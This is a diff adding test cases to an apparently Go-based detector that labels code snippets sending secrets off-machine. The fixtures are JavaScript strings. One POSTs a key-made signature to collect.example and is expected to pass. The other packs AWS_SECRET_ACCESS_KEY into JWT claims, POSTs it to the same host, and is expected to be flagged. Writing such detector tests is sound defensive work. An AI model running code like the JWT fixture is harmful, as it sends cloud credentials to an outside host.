@@ -472,6 +472,16 @@ func TestSignedRequest(t *testing.T) {
 	if got := kinds(raw, Python); got != "secret-send" {
 		t.Errorf("the secret itself: got %q", got)
 	}
+	// A signature made with a key carries none of the key; what was
+	// signed (a JWT's claims) stays readable in it.
+	signed := "const crypto = require('crypto');\nconst key = process.env.MERCHANT_PRIVATE_KEY;\nconst sig = crypto.sign('sha256', Buffer.from(body), key);\nfetch('https://collect.example/in', {method: 'POST', body: sig});\n"
+	if got := kinds(signed, JS); got != "" {
+		t.Errorf("signed with a key: got %q", got)
+	}
+	claims := "const jwt = require('jsonwebtoken');\nconst tok = jwt.sign({k: process.env.AWS_SECRET_ACCESS_KEY}, 'x');\nfetch('https://collect.example/in', {method: 'POST', body: tok});\n"
+	if got := kinds(claims, JS); got != "secret-send" {
+		t.Errorf("a secret in a JWT's claims: got %q", got)
+	}
 }
 
 // A file that talks to the network offers the data files it names: what
